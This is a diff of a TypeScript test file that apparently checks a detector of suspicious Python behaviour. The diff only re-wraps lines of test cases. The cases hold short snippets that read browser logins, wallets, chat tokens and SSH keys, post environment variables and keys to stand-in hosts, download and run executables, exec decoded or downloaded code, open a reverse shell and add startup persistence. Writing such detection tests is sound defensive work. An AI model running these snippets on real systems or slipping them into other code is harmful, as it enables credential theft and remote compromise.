@@ -42,7 +42,10 @@ const CASES: readonly (readonly [wanted: string, source: string])[] = [
     'import os, sqlite3\nsqlite3.connect(os.getenv("LOCALAPPDATA") + "\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data")',
   ],
   ['read-wallet', 'import os\nopen(os.getenv("APPDATA") + "\\\\Exodus\\\\exodus.wallet")'],
-  ['read-chat-token', 'import os\nos.listdir(os.getenv("APPDATA") + "\\\\discord\\\\Local Storage\\\\leveldb")'],
+  [
+    'read-chat-token',
+    'import os\nos.listdir(os.getenv("APPDATA") + "\\\\discord\\\\Local Storage\\\\leveldb")',
+  ],
   ['read-system-accounts', 'open("/etc/passwd").read()'],
   ['read-process-list', 'import psutil\nfor p in psutil.process_iter(): print(p.name())'],
   ['read-clipboard', 'import pyperclip\npyperclip.paste()'],
@@ -54,20 +57,47 @@ const CASES: readonly (readonly [wanted: string, source: string])[] = [
   // Data transmission
   ['http-request to:other', 'import requests\nrequests.get("https://example.com/x")'],
   ['http-send', 'import requests\nrequests.post("https://example.com/x", data={"a": 1})'],
-  ['http-send to:ip carries:host', 'import requests, socket\nrequests.post("http://198.51.100.7/x", json={"h": socket.gethostname()})'],
-  ['http-send carries:host', 'import requests, socket\nrequests.get("https://example.com/?h=" + socket.gethostname())'],
-  ['http-send carries:env', 'import os, requests\nrequests.post("https://example.com", data=dict(os.environ))'],
-  ['http-send carries:env', 'import os, json, urllib.request\nurllib.request.urlopen(urllib.request.Request("https://example.com", data=json.dumps(dict(os.environ)).encode()))'],
-  ['http-send carries:file', 'import requests\nrequests.post("https://example.com", files={"f": open("/var/x", "rb")})'],
-  ['http-send carries:credentials', 'import requests, os\nd = open(os.path.expanduser("~/.ssh/id_rsa")).read()\nrequests.post("https://example.com", data=d)'],
-  ['http-send carries:output', 'import requests, subprocess\nrequests.post("https://example.com", data=subprocess.check_output("id"))'],
-  ['http-send', 'import http.client\nc = http.client.HTTPSConnection("example.com")\nc.request("POST", "/x", body="y")'],
+  [
+    'http-send to:ip carries:host',
+    'import requests, socket\nrequests.post("http://198.51.100.7/x", json={"h": socket.gethostname()})',
+  ],
+  [
+    'http-send carries:host',
+    'import requests, socket\nrequests.get("https://example.com/?h=" + socket.gethostname())',
+  ],
+  [
+    'http-send carries:env',
+    'import os, requests\nrequests.post("https://example.com", data=dict(os.environ))',
+  ],
+  [
+    'http-send carries:env',
+    'import os, json, urllib.request\nurllib.request.urlopen(urllib.request.Request("https://example.com", data=json.dumps(dict(os.environ)).encode()))',
+  ],
+  [
+    'http-send carries:file',
+    'import requests\nrequests.post("https://example.com", files={"f": open("/var/x", "rb")})',
+  ],
+  [
+    'http-send carries:credentials',
+    'import requests, os\nd = open(os.path.expanduser("~/.ssh/id_rsa")).read()\nrequests.post("https://example.com", data=d)',
+  ],
+  [
+    'http-send carries:output',
+    'import requests, subprocess\nrequests.post("https://example.com", data=subprocess.check_output("id"))',
+  ],
+  [
+    'http-send',
+    'import http.client\nc = http.client.HTTPSConnection("example.com")\nc.request("POST", "/x", body="y")',
+  ],
   ['http-request', 'import urllib.request\nurllib.request.urlopen("https://example.com")'],
   ['http-request', 'import urllib2\nurllib2.urlopen("https://example.com").read()'],
   ['http-request', 'import httpx\nwith httpx.Client() as c: c.get("https://example.com")'],
   ['http-send to:webhook', 'import requests\nrequests.post("https://discord.com/api/webhooks/1/x", json={})'],
   ['http-send to:webhook', 'import telebot\nb = telebot.TeleBot("1:x")\nb.send_message(1, "x")'],
-  ['download-file', 'import urllib.request\nurllib.request.urlretrieve("https://example.com/a.exe", "a.exe")'],
+  [
+    'download-file',
+    'import urllib.request\nurllib.request.urlretrieve("https://example.com/a.exe", "a.exe")',
+  ],
   ['open-socket to:ip', 'import socket\ns = socket.socket()\ns.connect(("198.51.100.7", 4444))'],
   ['websocket', 'import websocket\nwebsocket.create_connection("wss://example.com")'],
   ['dns-query', 'import socket\nsocket.gethostbyname("example.com")'],
@@ -92,14 +122,20 @@ const CASES: readonly (readonly [wanted: string, source: string])[] = [
   ['run-program quiet', 'import subprocess\nsubprocess.Popen(["x"], stdout=subprocess.DEVNULL)'],
   ['run-program quiet', 'import subprocess\nsubprocess.Popen(["x"], creationflags=0x08000000)'],
   ['run-program detached', 'import subprocess\nsubprocess.Popen(["x"], start_new_session=True)'],
-  ['install-package', 'import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "x"])'],
+  [
+    'install-package',
+    'import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "x"])',
+  ],
   ['install-package', 'import pip\npip.main(["install", "x"])'],
   ['evaluate', 'exec("a = 1")'],
   ['evaluate', 'eval(x)'],
   ['evaluate-decoded', 'import base64\nexec(base64.b64decode("YT0x"))'],
   ['evaluate-decoded', 'import zlib, base64\nexec(zlib.decompress(base64.b64decode(x)))'],
   ['evaluate-downloaded', 'import requests\nexec(requests.get("https://example.com/x").text)'],
-  ['evaluate-downloaded', 'import urllib.request as u\nexec(u.urlopen("https://example.com/x").read().decode())'],
+  [
+    'evaluate-downloaded',
+    'import urllib.request as u\nexec(u.urlopen("https://example.com/x").read().decode())',
+  ],
   ['evaluate-decoded', 'import marshal\nexec(marshal.loads(b"xx"))'],
   ['dynamic-import', '__import__(x)'],
   ['load-native', 'import ctypes\nctypes.CDLL("./x.so")'],
@@ -108,16 +144,34 @@ const CASES: readonly (readonly [wanted: string, source: string])[] = [
   ['write-file', 'open("/var/x", "w").write("a")'],
   ['write-file', 'from pathlib import Path\nPath("/var/x").write_text("a")'],
   ['write-executable', 'open("/var/x.exe", "wb")'],
-  ['write-executable carries:download', 'import requests\nopen("/tmp/x.exe", "wb").write(requests.get("https://example.com/x").content)'],
+  [
+    'write-executable carries:download',
+    'import requests\nopen("/tmp/x.exe", "wb").write(requests.get("https://example.com/x").content)',
+  ],
   ['make-executable', 'import os\nos.chmod("/tmp/x", 0o755)'],
   ['copy-file', 'import shutil\nshutil.copy("a", "/var/b")'],
-  ['run-downloaded', 'import os, urllib.request\nurllib.request.urlretrieve("https://example.com/x", "/tmp/x")\nos.system("/tmp/x")'],
-  ['run-downloaded', 'import subprocess, requests\nwith open("/tmp/x.exe", "wb") as f: f.write(requests.get("https://example.com/x").content)\nsubprocess.Popen(["/tmp/x.exe"])'],
-  ['run-downloaded', 'import os, requests\np = os.path.join(os.getenv("TEMP"), "x.exe")\nopen(p, "wb").write(requests.get(u).content)\nos.startfile(p)'],
-  ['connect-shell', 'import socket, os, pty\ns = socket.socket()\ns.connect(("198.51.100.7", 1))\nos.dup2(s.fileno(), 0)\npty.spawn("/bin/sh")'],
+  [
+    'run-downloaded',
+    'import os, urllib.request\nurllib.request.urlretrieve("https://example.com/x", "/tmp/x")\nos.system("/tmp/x")',
+  ],
+  [
+    'run-downloaded',
+    'import subprocess, requests\nwith open("/tmp/x.exe", "wb") as f: f.write(requests.get("https://example.com/x").content)\nsubprocess.Popen(["/tmp/x.exe"])',
+  ],
+  [
+    'run-downloaded',
+    'import os, requests\np = os.path.join(os.getenv("TEMP"), "x.exe")\nopen(p, "wb").write(requests.get(u).content)\nos.startfile(p)',
+  ],
+  [
+    'connect-shell',
+    'import socket, os, pty\ns = socket.socket()\ns.connect(("198.51.100.7", 1))\nos.dup2(s.fileno(), 0)\npty.spawn("/bin/sh")',
+  ],
   // Persistence
   ['persist-startup', 'import os\nopen(os.path.expanduser("~/.bashrc"), "a").write("x")'],
-  ['persist-startup', 'import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0, 2)\nwinreg.SetValueEx(k, "x", 0, 1, "y")'],
+  [
+    'persist-startup',
+    'import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0, 2)\nwinreg.SetValueEx(k, "x", 0, 1, "y")',
+  ],
   ['persist-registry', 'import winreg\nwinreg.CreateKey(winreg.HKEY_CURRENT_USER, r"Software\\X")'],
   ['hook-import', 'import site\nopen(site.getsitepackages()[0] + "/x.pth", "w")'],
   ['hook-import', 'import sys\nsys.meta_path.insert(0, X())'],
@@ -144,7 +198,8 @@ const CASES: readonly (readonly [wanted: string, source: string])[] = [
 
 describe('python: every row', () => {
   for (const [wanted, source] of CASES) {
-    it(`${wanted}: ${source.split('\n').slice(-1)[0]?.slice(0, 70)}`, () => expectBehaviors(source, [wanted]));
+    it(`${wanted}: ${source.split('\n').slice(-1)[0]?.slice(0, 70)}`, () =>
+      expectBehaviors(source, [wanted]));
   }
 
   const QUIET: readonly (readonly [unwanted: string, source: string])[] = [
